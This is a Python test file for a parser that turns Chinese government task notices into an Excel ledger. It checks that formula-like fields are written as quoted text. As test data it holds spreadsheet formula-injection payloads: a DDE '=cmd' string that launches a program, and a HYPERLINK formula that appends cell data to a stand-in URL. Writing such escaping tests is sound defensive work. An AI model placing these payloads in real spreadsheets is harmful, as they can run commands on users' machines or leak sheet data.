"""The parser's 台账 (``ledger_bytes`` and ``duban parse --xlsx``) never writes a formula.

A notice is input from outside: any field of a parsed task that starts with ``=``, ``+``,
``-``, ``@``, a tab or a CR must reach the sheet as the same text, quote-prefixed.
"""

from __future__ import annotations

from io import BytesIO
from pathlib import Path

from openpyxl import load_workbook

from duban.cli import main
from taskdoc.model import (
    DocumentInfo,
    Issue,
    Location,
    ParseResult,
    SourceSpan,
    Task,
    TaskList,
    UnitRef,
)
from taskdoc.output.ledger import COLUMNS, ledger_bytes
from taskdoc.values import Comparator, Milestone, Precision, Target, TargetKind
from tests.xlsxsafe.checks import HOSTILE, assert_shown, safe_texts


def _unit(name: str) -> UnitRef:
    return UnitRef(name=name, raw=name, collective=False, label="责任单位")


def _target(raw: str) -> Target:
    return Target(
        metric=raw, kind=TargetKind.COUNT, comparator=Comparator.AT_LEAST, value=None,
        unit="个", normalized_value=None, normalized_unit="个", start=0, end=1, raw=raw,
    )  # fmt: skip


def _hostile_task(number: int, text: str) -> Task:
    """Every text field of the task is ``text`` (the 来源位置 is the parser's own words)."""
    return Task(
        list=text,
        section_path=(text,),
        number=number,
        text=text,
        leaders=(text,),
        lead_units=(_unit(text),),
        responsible_units=(_unit(text),),
        supporting_units=(_unit(text),),
        deadline=text,
        span=SourceSpan.at(Location(line=number)),
        issues=(Issue(code="x", message=text),),
        targets=(_target(text),),
        milestones=(Milestone(text=text, raw=text, start=0, end=1, precision=Precision.MONTH),),
    )


def test_every_field_of_the_ledger_is_written_as_text() -> None:
    tasks = tuple(_hostile_task(n, text) for n, text in enumerate(HOSTILE, start=1))
    result = ParseResult(
        document=DocumentInfo(title="=通知"),
        lists=(TaskList("=清单", SourceSpan.at(Location())),),
        tasks=tasks,
    )
    data = ledger_bytes(result)
    texts = safe_texts(data)
    assert_shown(texts, *HOSTILE)
    sheet = load_workbook(BytesIO(data)).active
    assert sheet is not None
    titles = [title for title, _ in COLUMNS]
    for row, text in enumerate(HOSTILE, start=2):
        values = dict(zip(titles, (c.value for c in sheet[row]), strict=True))
        assert values["序号"] == row - 1  # the number stays a number
        whole = ("任务内容", "责任领导", "牵头单位", "责任单位", "完成时限", "量化指标")
        assert all(values[column] == text for column in whole), values
        assert values["配合单位"] == text and values["问题"] == text
        assert values["时间节点"] == f"{text} {text}".strip()


def test_cli_xlsx_of_a_hostile_notice(tmp_path: Path) -> None:
    notice = tmp_path / "notice.txt"
    notice.write_text(
        "关于印发2024年重点工作任务分解的通知\n"
        '一、=HYPERLINK("http://x"&A1,"点我")\n'
        "1. =cmd|' /C calc'!A0 新增就业1.3万人，6月底前完成。\n"
        "责任领导：@SUM(A1)\n牵头单位：+1+1\n责任单位：-2+3\n"
        "2. +1+1 推进项目建设。\n责任领导：张洋\n责任单位：区发改委\n",
        encoding="utf-8",
    )
    out = tmp_path / "台账.xlsx"
    assert main(["parse", str(notice), "--xlsx", str(out)]) == 0
    texts = safe_texts(out.read_bytes())
    assert_shown(
        texts,
        "=cmd|' /C calc'!A0 新增就业1.3万人，6月底前完成。",
        "+1+1 推进项目建设。",
        "@SUM(A1)",
        "-2+3",
        '=HYPERLINK("http://x"&A1,"点我")',
    )
    assert "+1+1" in texts  # the lead unit, a cell of its own
